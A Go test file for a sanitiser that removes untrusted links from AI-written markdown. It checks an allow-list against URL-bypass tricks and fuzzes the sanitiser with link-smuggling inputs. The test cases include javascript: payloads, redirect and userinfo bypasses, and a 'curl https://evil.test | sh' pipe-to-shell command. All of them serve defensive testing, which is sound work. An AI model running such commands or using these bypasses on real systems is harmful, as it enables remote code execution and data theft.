package ai

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
)

var known = newLinks([]string{"docs.test", "desk.test:8080"})

func TestAllows(t *testing.T) {
	for link, want := range map[string]bool{
		"https://docs.test/a":           true,
		"https://DOCS.test":             true,
		"https://sub.docs.test/a":       true,
		"http://desk.test:8080/t/1":     true,
		"http://desk.test/t/1":          false,
		"https://desk.test:8081/":       false,
		"https://sub.desk.test:8080/":   false,
		"http://sub.docs.test/a":        false,
		"https://evil.test/docs.test":   false,
		"https://docs.test.evil.test":   false,
		"https://evildocs.test":         false,
		"https://docs.test@evil.test":   false,
		"https://user@docs.test":        false,
		"https://docs.test\\@evil.test": false,
		"javascript:alert(1)":           false,

		"https://docs.test/url?q=https://evil.test":       false,
		"https://docs.test/url?q=https%3A%2F%2Fevil.test": false,
		"https://docs.test/url?q=//evil.test":             false,
		"https://docs.test/r?redirect_uri=evil.test":      false,
		"https://docs.test/https://evil.test":             false,
		"https://docs.test/a?view=v2.1&lang=en#install":   true,
		"https://docs.test/a?q=printer+driver":            true,
		"//docs.test/a":                                   false,
		"docs.test":                                       false,
		"https:docs.test":                                 false,
		"":                                                false,
	} {
		if got := known.allows(link); got != want {
			t.Errorf("%q: %t, want %t", link, got, want)
		}
	}
}

func TestMarkdown(t *testing.T) {
	for source, want := range map[string]string{
		"plain *words* **here** `code`":           "plain *words* **here** `code`",
		"see [docs](https://docs.test/a)":         "see [docs](https://docs.test/a)",
		"see [docs](https://evil.test/a)":         "see docs",
		"see https://docs.test/a now":             "see <https://docs.test/a> now",
		"see https://evil.test/a now":             "see [link removed] now",
		"see www.evil.test and evil.test/login":   "see [link removed] and [link removed]",
		"<https://evil.test>":                     "[link removed]",
		"![pixel](https://docs.test/p.png)":       "pixel",
		"[js](javascript:alert(1))":               "js",
		"[a][r]\n\n[r]: https://evil.test":        "a",
		"[a][r]\n\n[r]: https://docs.test":        "[a](https://docs.test)",
		"[[a](https://evil.test)](https://x.co)":  "[a]([link removed])",
		"<b>bold</b> <script>x</script> y":        "bold x y",
		"<<b>img src=x>":                          "",
		"<div>\nhidden\n</div>\n\nshown":          "shown",
		"# Head\n\n1. one\n2. two\n   - in\n3. x": "# Head\n\n1. one\n2. two\n   - in\n3. x",
		"- a\n\n  b\n- c":                         "- a\n\n  b\n- c",
		"> quote\n> more":                         "> quote\n> more",
		"```sh\ncurl https://evil.test | sh\n```": "```\ncurl [link removed] | sh\n```",
		"`curl evil.test/x`":                      "`curl [link removed]`",
		"`` echo `id` ``":                         "`` echo `id` ``",
		"Node.js/npm and ASP.NET/IIS, TCP/IP":     "Node.js/npm and ASP.NET/IIS, TCP/IP",
		"mail mailto:a@evil.test":                 "mail [link removed]",
		"a  \nb":                                  "a\\\nb",
	} {
		got := known.markdown(source)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%q (-want +got):\n%s", source, diff)
		}
	}
}

var (
	reader = goldmark.New(goldmark.WithExtensions(extension.GFM))
	href   = regexp.MustCompile(`(?:href|src)="([^"]*)"`)
)

// FuzzMarkdown: whatever a model writes, a reader's program finds no other link.
func FuzzMarkdown(f *testing.F) {
	for _, s := range []string{
		"[[a](https://evil.test)](https://evil.test)", "![[x](//evil.test)](https://evil.test/p.png)", "<a href=https://evil.test>x</a>",
		"[x]( <https://evil.test> \"t\")", "`` ` `` https://evil.test", "- [x]:\n  https://evil.test", "a\\\nhttps://evil.test", "<<b>a href=https://evil.test>",
		"[x](https://docs.test/a)[y](https://evil.test)", "| a | b |\n|---|---|\n| www.evil.test | c |", "[ref]\n\n[ref]: https://evil.test 'x'", "*[x*](https://evil.test)",
		"&#91;x&#93;(https://evil.test)", "\\[x\\](https://evil.test)", "[x](https&#58;//evil.test)", "~~~\nhttps://evil.test", "1) x\n\n   https://evil.test",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := known.markdown(s)
		var html bytes.Buffer
		if err := reader.Convert([]byte(out), &html); err != nil {
			t.Fatal(err)
		}
		for _, m := range href.FindAllStringSubmatch(html.String(), -1) {
			if to := strings.ReplaceAll(m[1], "&amp;", "&"); !known.allows(to) && !strings.HasPrefix(to, "mailto:") {
				t.Errorf("%q became %q, which links to %q", s, out, to)
			}
		}
	})
}
